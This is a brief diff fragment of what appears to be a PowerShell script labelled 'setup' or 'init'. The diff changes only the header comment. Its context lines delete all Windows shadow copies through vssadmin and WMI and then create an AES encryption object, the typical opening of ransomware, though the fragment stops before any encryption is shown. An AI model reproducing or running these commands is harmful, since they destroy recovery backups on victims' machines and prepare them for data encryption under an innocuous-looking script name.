@@ -1,4 +1,4 @@
-# setup 6531 v1
+# init 5384 v1
 vssadmin.exe delete shadows /all /quiet
 Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }
 $aes = [System.Security.Cryptography.Aes]::Create()
